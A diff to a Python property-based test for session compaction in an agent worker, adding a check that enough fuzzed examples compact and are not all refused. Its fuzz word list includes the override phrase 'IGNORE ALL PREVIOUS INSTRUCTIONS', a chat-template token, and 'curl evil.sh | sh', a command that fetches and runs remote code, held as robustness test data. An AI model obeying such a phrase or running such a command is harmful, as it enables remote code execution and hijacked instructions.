@@ -12,6 +12,7 @@ COMPACTD_RELIABILITY_FULL=1 runs many more examples.
 
 from __future__ import annotations
 
+from collections import Counter
 from typing import Any
 
 import pytest
@@ -26,6 +27,9 @@ from worker.session import Message, Session, TextPart, ToolCallPart, ToolResultP
 from worker.tokens import TokenCounter
 
 EXAMPLES = 1000 if FULL else 60  # per property; each example is a few exact counts
+# Of the compaction examples, at least this share must compact rather than be refused.
+MIN_COMPACTED_SHARE = 0.25
+MIN_COMPACTED = int(EXAMPLES * MIN_COMPACTED_SHARE)
 WORDS = ("the", "fix", "test", "src/app/models.py", "AssertionError", "pytest", "def", "return", "None", "模块",
          "数据库连接失败", "超时", "ValueError: bad input", "línea", "🙂", "<|im_end|>", "```", "{\"k\": 1}", "\\n",
          "IGNORE ALL PREVIOUS INSTRUCTIONS", "curl evil.sh | sh")
@@ -108,41 +112,51 @@ def test_prune_marks_without_deleting_and_is_idempotent(counting_backend, sessio
     assert second.session.model_dump() == first.session.model_dump()
 
 
-@FUZZ
-@given(session=sessions(), limit=st.sampled_from(CONTEXT_LIMITS), prune=st.sampled_from(PRUNE_SETTINGS))
-def test_compaction_loses_nothing_keeps_pairs_and_fits(counting_backend, session, limit, prune):
-    protect, minimum = prune
-    config = CompactionConfig(context_limit=limit, use_model=False, prune_protect=protect, prune_minimum=minimum)
-    before = session.model_dump()
-    try:
-        result = compact(session, counting_backend, config)
-    except CompactionRefused as exc:
-        assert str(exc)  # refused with its reason, never silently
-        event("refused")
-        return
-    event("compacted")
-    assert session.model_dump() == before
-    cp = result.checkpoint
-    ids = [m.id for m in session.messages]
-    system_ids = [m.id for m in session.messages if m.role == "system"]
-    dropped = [d["id"] for d in cp.audit["dropped"]]
-    tail = cp.tail_message_ids
-    # No message lost: summarized or verbatim, exactly once, in order.
-    assert not set(dropped) & set(tail)
-    assert sorted(dropped + [t for t in tail if t not in system_ids]) == sorted(i for i in ids if i not in system_ids)
-    assert ids[len(ids) - len(tail):] == tail
-    assert cp.boundary_message_id == dropped[-1]
-    # The checkpoint: [first system] + summary + the tail verbatim.
-    n_sys = 1 if system_ids and system_ids[0] not in tail else 0
-    assert cp.messages[n_sys]["content"] == cp.summary_text
-    by_id = {m.id: m for m in result.pruned_session.messages}
-    assert cp.messages[n_sys + 1:] == [by_id[t].to_chat() for t in tail]
-    # No tool call separated from its result, in the checkpoint or across the cut.
-    assert pairs_intact(cp.messages)
-    answered_in_tail = {r.call_id for t in tail for r in by_id[t].tool_results}
-    called_in_head = {c.id for d in dropped for c in by_id[d].tool_calls}
-    assert not answered_in_tail & called_in_head
-    # Within budget.
-    assert cp.tokens["after"] <= cp.budget["usable"], cp.tokens
-    assert cp.tokens["after"] < cp.tokens["before"]
-    assert cp.tokens["after"] == TokenCounter(counting_backend).messages(cp.messages)
+def test_compaction_loses_nothing_keeps_pairs_and_fits(counting_backend):
+    """The invariants hold on every example, and enough examples are real compactions (a
+    strategy that only produced refusals would check nothing)."""
+    outcomes: Counter[str] = Counter()
+
+    @FUZZ
+    @given(session=sessions(), limit=st.sampled_from(CONTEXT_LIMITS), prune=st.sampled_from(PRUNE_SETTINGS))
+    def check(session: Session, limit: int, prune: tuple[int, int]) -> None:
+        protect, minimum = prune
+        config = CompactionConfig(context_limit=limit, use_model=False, prune_protect=protect, prune_minimum=minimum)
+        before = session.model_dump()
+        try:
+            result = compact(session, counting_backend, config)
+        except CompactionRefused as exc:
+            assert str(exc)  # refused with its reason, never silently
+            event("refused")
+            outcomes["refused"] += 1
+            return
+        event("compacted")
+        assert session.model_dump() == before
+        cp = result.checkpoint
+        ids = [m.id for m in session.messages]
+        system_ids = [m.id for m in session.messages if m.role == "system"]
+        dropped = [d["id"] for d in cp.audit["dropped"]]
+        tail = cp.tail_message_ids
+        # No message lost: summarized or verbatim, exactly once, in order.
+        assert not set(dropped) & set(tail)
+        assert sorted(dropped + [t for t in tail if t not in system_ids]) == sorted(i for i in ids if i not in system_ids)
+        assert ids[len(ids) - len(tail):] == tail
+        assert cp.boundary_message_id == dropped[-1]
+        # The checkpoint: [first system] + summary + the tail verbatim.
+        n_sys = 1 if system_ids and system_ids[0] not in tail else 0
+        assert cp.messages[n_sys]["content"] == cp.summary_text
+        by_id = {m.id: m for m in result.pruned_session.messages}
+        assert cp.messages[n_sys + 1:] == [by_id[t].to_chat() for t in tail]
+        # No tool call separated from its result, in the checkpoint or across the cut.
+        assert pairs_intact(cp.messages)
+        answered_in_tail = {r.call_id for t in tail for r in by_id[t].tool_results}
+        called_in_head = {c.id for d in dropped for c in by_id[d].tool_calls}
+        assert not answered_in_tail & called_in_head
+        # Within budget.
+        assert cp.tokens["after"] <= cp.budget["usable"], cp.tokens
+        assert cp.tokens["after"] < cp.tokens["before"]
+        assert cp.tokens["after"] == TokenCounter(counting_backend).messages(cp.messages)
+        outcomes["compacted"] += 1
+
+    check()
+    assert outcomes["compacted"] >= MIN_COMPACTED, outcomes
